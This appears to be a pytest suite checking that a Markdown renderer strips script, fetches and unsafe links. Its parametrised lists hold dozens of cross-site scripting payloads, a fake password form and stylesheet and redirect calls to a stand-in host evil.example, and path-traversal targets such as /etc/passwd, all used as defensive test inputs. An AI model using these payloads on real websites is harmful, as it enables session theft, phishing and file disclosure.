"""Markdown is shown as HTML in which nothing runs and nothing is fetched."""

from __future__ import annotations

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from catalog.rendering import is_markdown, render_markdown


def render(text: str, path: str = "guides/start.md") -> str:
    return render_markdown(text, path=path, link=lambda target: f"/at?path={target}")


def test_the_everyday_things_of_markdown_are_rendered() -> None:
    html = render(
        "# Title\n\nSome *text* and `code`.\n\n| a | b |\n|--|--|\n| 1 | 2 |\n\n~~old~~\n\n```sh\nmake\n```\n"
    )
    assert '<h1 id="section-title">Title</h1>' in html
    assert "<em>text</em>" in html
    assert "<td>1</td>" in html
    assert "<s>old</s>" in html
    assert '<pre tabindex="0"><code>make\n</code></pre>' in html


@pytest.mark.parametrize(
    "attack",
    [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<math><mtext></p><style><img src=x onerror=alert(1)></style></mtext></math>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<iframe src=javascript:alert(1)>",
        "<object data=javascript:alert(1)></object>",
        "<embed src=javascript:alert(1)>",
        "<form action=//evil.example><input name=password><button>Sign in</button></form>",
        "<a href='javascript:alert(1)'>x</a>",
        "<a href='JaVaScRiPt:alert(1)'>x</a>",
        "<a href='java\tscript:alert(1)'>x</a>",
        "<a href=' javascript:alert(1)'>x</a>",
        "<a href='&#106;avascript:alert(1)'>x</a>",
        "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
        "<a href='vbscript:x'>x</a>",
        "[x](javascript:alert(1))",
        "[x](<javascript:alert(1)>)",
        "[x](java\u0000script:alert(1))",
        "[x](data:text/html;base64,PHNjcmlwdD4=)",
        "![x](javascript:alert(1))",
        "[a]: javascript:alert(1)\n\n[a]",
        "<a href=x onclick=alert(1)>x</a>",
        "<p style='background:url(//evil.example)'>x</p>",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<meta http-equiv=refresh content='0;url=//evil.example'>",
        "<base href=//evil.example>",
        "<style>@import '//evil.example'</style>",
        "<div hx-get='/accounts/logout/' hx-trigger=load>x</div>",
        "<button data-dialog=modal popovertarget=user-menu>x</button>",
        "<video src=//evil.example/x><source src=//evil.example/y></video>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
        "<textarea><script>alert(1)</script></textarea>",
        "---\n<script>alert(1)</script>\n---\ntext",
        '# "><script>alert(1)</script>',
        "`<script>alert(1)</script>`",
        '```"><script>alert(1)</script>\nx\n```',
    ],
)
def test_what_would_run_or_be_fetched_is_gone(attack: str) -> None:
    html = render(f"before\n\n{attack}\n\nafter")
    tags = re.findall(r"<[^>]*>", html)  # escaped text is only text
    assert not re.search(
        r"<(script|img|svg|math|iframe|object|embed|form|input|button|link|meta|base|style|video|source|textarea)",
        "".join(tags),
        re.IGNORECASE,
    )
    assert not re.search(
        r"\s(on\w+|style|class|hx-\w+|data-\w+|srcdoc|src|popovertarget)\s*=", "".join(tags), re.IGNORECASE
    )
    addresses = [address.strip().lower() for address in re.findall(r'href="([^"]*)"', "".join(tags))]
    assert not [one for one in addresses if re.match(r"\W*(java\s*script|data|vbscript)", one)]


@settings(max_examples=150)
@given(st.text(alphabet="<>/\"'`=:()[]!#&;* \nabcjsript", max_size=120))
def test_whatever_is_written_only_known_tags_and_attributes_come_out(text: str) -> None:
    tags = re.findall(r"<(/?)([a-z0-9]+)([^>]*)>", render(text))
    assert all(name != "script" for _, name, _ in tags)
    for _, _, attributes in tags:
        names = set(re.findall(r'\s([a-z-]+)="', attributes))
        assert names <= {"href", "title", "rel", "id", "start", "align", "colspan", "rowspan", "open"}


@pytest.mark.parametrize(
    ("target", "address"),
    [
        ("install.md", "/at?path=guides/install.md"),
        ("./install.md#linux", "/at?path=guides/install.md#section-linux"),
        ("../README.md", "/at?path=README.md"),
        ("/README.md", "/at?path=README.md"),
        ("a%20b.md", "/at?path=guides/a b.md"),
        ("#install", "#section-install"),
        ("https://example.com/x", "https://example.com/x"),
        ("mailto:help@example.com", "mailto:help@example.com"),
    ],
)
def test_links_lead_to_the_servers_own_files_and_outward(target: str, address: str) -> None:
    assert f'href="{address}"' in render(f"[x]({target})").replace("%20", " ")


@pytest.mark.parametrize(
    "target", ["../../../etc/passwd", "..", "ftp://example.com/", "file:///etc/passwd", "a%5Cb", "a%0Ab"]
)
def test_links_that_leave_the_server_or_use_other_schemes_lose_their_address(target: str) -> None:
    assert "href" not in render(f"[x]({target})")


def test_outward_links_tell_the_other_site_nothing() -> None:
    assert 'rel="noopener noreferrer nofollow"' in render("[x](https://example.com)")


def test_images_become_links_so_that_nothing_is_loaded_from_elsewhere() -> None:
    html = render("![The logo](https://evil.example/pixel.png) ![](local.png)")
    assert "<img" not in html
    assert '<a href="https://evil.example/pixel.png" rel="noopener noreferrer nofollow">Image: The logo</a>' in html
    assert 'href="/at?path=guides/local.png"' in html


def test_a_badge_keeps_the_link_around_it() -> None:
    html = render("[![build](https://badges.example/x.svg)](https://ci.example/)")
    assert html.strip() == '<p><a href="https://ci.example/" rel="noopener noreferrer nofollow">Image: build</a></p>'


def test_headings_of_the_same_words_have_ids_of_their_own() -> None:
    html = render("# Set up\n\n## Set up\n\n### What's `new`?\n")
    assert re.findall(r'id="([^"]*)"', html) == ["section-set-up", "section-set-up-1", "section-whats-new"]


def test_an_id_written_by_hand_meets_no_id_of_the_page() -> None:
    assert render("<h2 id='modal'>x</h2>").strip() == '<h2 id="section-modal">x</h2>'


def test_metadata_at_the_top_is_shown_as_code() -> None:
    html = render("---\ntitle: A <b>\n---\n\n# Start\n")
    assert html.startswith('<pre tabindex="0"><code>title: A &lt;b&gt;\n</code></pre>')
    assert '<h1 id="section-start">' in html


@pytest.mark.parametrize("tag", ["<b id={}>", "<B/id={}>", "<font size={}>", "<code\nid={}<>", "<u id='{}'>"])
def test_tags_that_nobody_closes_do_not_multiply(tag: str) -> None:
    text = "<p>" + "".join(tag.format(number) for number in range(500)) + "<p>x" * 500
    assert len(render(text)) < 10 * len(text)


def test_markdown_is_known_by_its_name() -> None:
    assert is_markdown("README.MD")
    assert is_markdown("a/b.markdown")
    assert not is_markdown("md")
    assert not is_markdown("a.md.py")
